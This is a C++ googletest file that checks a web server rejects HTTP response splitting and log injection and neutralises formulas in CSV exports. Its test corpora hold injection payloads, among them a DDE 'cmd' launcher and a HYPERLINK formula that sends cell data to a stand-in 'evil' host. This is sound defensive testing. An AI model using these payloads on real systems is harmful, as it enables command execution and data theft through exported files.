// Text that would begin a line of its own: in the header of an answer, in the log, in a CSV.
#include <unistd.h>

#include <algorithm>
#include <regex>
#include <vector>

#include "base/durable_file.hpp"
#include "base/log.hpp"
#include "storage/testing/alarm_samples.hpp"
#include "web/attacks/attack_tools.hpp"

namespace wl::web::attacks {
namespace {

class SplitAnswer : public ::testing::TestWithParam<const char*> {
 protected:
  void expect_refused(const std::string& target) {
    const Answer answer = request(server_.port(), "GET " + target, client_.cookie);
    EXPECT_EQ(answer.status, 400) << target;
    EXPECT_THAT(answer.head + answer.body, Not(HasSubstr("Injected")));
  }

  RunningServer server_;
  SignedInClient client_ = sign_in(server_.port());
};

TEST_P(SplitAnswer, by_a_line_break_in_path_or_query_is_refused) {
  const std::string attack = GetParam();

  expect_refused("/" + attack);
  expect_refused("/api/devices/" + attack + "/current");
  expect_refused("/api/alarms?device_id=" + attack);
}

INSTANTIATE_TEST_SUITE_P(corpus, SplitAnswer,
                         ::testing::Values("%0d%0aInjected:%20yes", "%0aInjected:%20yes",
                                           "%0dInjected:%20yes", "x%0d%0a%0d%0a<script>Injected",
                                           "%E5%98%8A%0aInjected", "%c0%8aInjected",
                                           "%00%0d%0aInjected:%20yes"));

TEST(SplitHeader, by_a_value_of_a_body_or_header_that_is_echoed_stays_in_the_body) {
  const RunningServer server;
  const SignedInClient client = sign_in(server.port());
  const std::string threshold =
      R"({"device_id":"x\r\nInjected: yes","parameter_name":"p\r\n","threshold_value":1})";

  const Answer body = request(server.port(), "POST /api/thresholds",
                              client.all() + "Accept-Language: en\r\n", threshold);
  const Answer host =
      answer_to(server, "GET /api/devices HTTP/1.1\r\nHost: a.example\tInjected: yes\r\n\r\n");

  EXPECT_EQ(body.status, 400);
  EXPECT_THAT(body.head, Not(HasSubstr("Injected")));
  EXPECT_THAT(body.body, HasSubstr(R"(x\u000d\u000aInjected)"));
  EXPECT_THAT(host.head, Not(HasSubstr("Injected")));
}

TEST(SplitHeader, in_utf8_that_turns_into_line_breaks_when_cut_to_bytes_stays_in_the_body) {
  const RunningServer server;
  const SignedInClient client = sign_in(server.port());

  // U+560A U+560D: their low bytes are LF and CR.
  const Answer answer =
      request(server.port(), "GET /api/x%E5%98%8D%E5%98%8AInjected:yes", client.cookie);

  EXPECT_EQ(answer.status, 404);
  EXPECT_THAT(answer.head, Not(HasSubstr("Injected")));
}

/// The log of the process in a folder of its own; what stood before is put back.
class LogInjection : public ::testing::TestWithParam<const char*> {
 protected:
  LogInjection() {
    std::string name = (std::filesystem::temp_directory_path() / "wl-attack-XXXXXX").string();
    options_.directory = ::mkdtemp(name.data());
    options_.process = "web";
    options_.level = "DEBUG";
    options_.also_stderr = false;
    EXPECT_TRUE(start_logging(options_).has_value());
    server_ = std::make_unique<RunningServer>();
  }
  ~LogInjection() override {
    server_.reset();
    spdlog::set_default_logger(before_);
    std::filesystem::remove_all(options_.directory);
  }

  /// Says everything that a client can say, with the attack in it.
  void attack_everywhere() {
    const std::string text = json_text(GetParam());
    const SignedInClient admin = sign_in(server_->port());
    const std::string head = "User-Agent: " + percent(GetParam()) + "%s%n{}\r\n";
    login(server_->port(), text.substr(0, 60), "x");
    request(server_->port(), "GET /" + percent(GetParam()), head);
    request(server_->port(), "GET /api/alarms?device_id=" + percent(GetParam()), admin.cookie);
    request(server_->port(), "POST /api/alarms/1/acknowledge", admin.all(),
            R"({"note":")" + text + R"("})");
    request(server_->port(), "POST /api/thresholds/preview", admin.all(),
            R"({"device_id":")" + text + R"(","parameter_name":"x","threshold_value":1})");
    request(server_->port(), "PUT /api/thresholds/7", admin.all(), R"({")" + text + R"(":1})");
    server_->stop();
  }

  std::string log() const { return read_file(options_.directory / "web.log").value_or(""); }

  std::shared_ptr<spdlog::logger> before_ = spdlog::default_logger();
  LogOptions options_;
  std::unique_ptr<RunningServer> server_;
};

/// Lines that do not begin as ours do.
std::vector<std::string> forged_lines(const std::string& log) {
  static const std::regex ours(
      R"(\d{4}-\d\d-\d\dT[\d:.]+Z (debug|info|warning|error) +web  [^\x00-\x08\x0a-\x1f\x7f]*)");
  std::vector<std::string> forged;
  for (std::size_t at = 0; at < log.size();) {
    const std::size_t end = std::min(log.find('\n', at), log.size());
    const std::string line = log.substr(at, end - at);
    if (!std::regex_match(line, ours)) forged.push_back(line);
    at = end + 1;
  }
  return forged;
}

TEST_P(LogInjection, neither_begins_a_line_nor_leaves_an_escape_in_the_log) {
  attack_everywhere();

  EXPECT_THAT(log(), HasSubstr("wrong password for unknown user"));
  EXPECT_THAT(forged_lines(log()), ::testing::IsEmpty());
  EXPECT_THAT(log(), Not(HasSubstr("\n2026-01-01T00:00:00.000Z info")));
}

INSTANTIATE_TEST_SUITE_P(
    corpus, LogInjection,
    ::testing::Values("x\n2026-01-01T00:00:00.000Z info     web  'admin' signed in", "x\r\nwarning",
                      "\x1b[2J\x1b[1;31mred",
                      "\xc2\x9b"
                      "31m",
                      "{} {0} {:>99999}", "%s%s%s%n%n",
                      "\xe2\x80\xae"
                      "nimda",
                      "\x07\x08\x7f", "\xe2\x80\xa8 line"));

/// Cells of a CSV, unquoted.
std::vector<std::string> cells_of(const std::string& csv) {
  std::vector<std::string> cells{""};
  bool quoted = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (c == '"') {
      quoted = !quoted;
    } else if (!quoted && (c == ',' || c == '\n')) {
      cells.emplace_back();
    } else if (c != '\r') {
      cells.back() += c;
    }
  }
  return cells;
}

bool is_number(const std::string& cell) {
  return cell.find_first_not_of("+-0123456789.e") == std::string::npos;
}

std::vector<std::string> formulas_of(const std::string& csv) {
  std::vector<std::string> formulas;
  for (const std::string& cell : cells_of(csv)) {
    const bool starts = !cell.empty() && std::string("=+-@\t\n").find(cell[0]) != std::string::npos;
    if ((starts && !is_number(cell)) || cell.starts_with("＝") || cell.starts_with("＋"))
      formulas.push_back(cell);
  }
  return formulas;
}

class CsvFormula : public ::testing::TestWithParam<const char*> {};

TEST_P(CsvFormula, in_any_text_of_an_alarm_is_only_text) {
  RunningServer server;
  const SignedInClient client = sign_in(server.port());
  storage::Batch batch;
  batch.source = "test";
  batch.seq = 1;
  AlarmRow row = storage::ended_alarm(1);
  for (std::string* text : {&row.device_id, &row.parameter_name, &row.alarm_type, &row.message,
                            &row.acknowledged_by, &row.note, &row.message_key})
    *text = GetParam();
  batch.alarms = {row, storage::alarm_row(2)};
  server.store(batch);

  const Answer answer = request(server.port(), "GET /api/alarms?format=csv", client.cookie);

  ASSERT_EQ(answer.status, 200);
  EXPECT_THAT(answer.body, HasSubstr("cmd"));
  EXPECT_THAT(formulas_of(answer.body), ::testing::IsEmpty()) << answer.body;
  EXPECT_EQ(std::ranges::count(answer.body, '\n'), 3) << "a head and two rows";
  EXPECT_EQ(answer.header("X-Content-Type-Options"), "nosniff");
  EXPECT_THAT(answer.header("Content-Disposition"), HasSubstr("attachment"));
}

INSTANTIATE_TEST_SUITE_P(corpus, CsvFormula,
                         ::testing::Values("=cmd|' /C calc'!A0", "+cmd", "-2+3+cmd", "@SUM(cmd)",
                                           "\tcmd", "\r=cmd", "\n=cmd", "x\",=cmd", "a\r\n=cmd,b",
                                           "=HYPERLINK(\"http://evil/?\"&A1,\"cmd\")", "＝cmd",
                                           "＋cmd"));

TEST(CsvFormula, in_the_cause_of_a_gap_does_not_reach_the_history_as_one) {
  RunningServer server;
  const SignedInClient client = sign_in(server.port());
  storage::Batch batch;
  batch.source = "test";
  batch.seq = 1;
  const Timestamp start = RunningServer::start_time() - 60s;
  batch.samples = {{PointId{0}, -4.5, quality::good, start}};
  batch.intervals = {{start, start + 20s, true, ""}, {start + 20s, start + 30s, false, "=cmd"}};
  server.store(batch);

  const Answer answer =
      request(server.port(), "GET /api/devices/conveyor/history?format=csv", client.cookie);

  ASSERT_EQ(answer.status, 200);
  EXPECT_THAT(answer.body, HasSubstr(",-4.5,"));
  EXPECT_THAT(formulas_of(answer.body), ::testing::IsEmpty()) << answer.body;
}

}  // namespace
}  // namespace wl::web::attacks
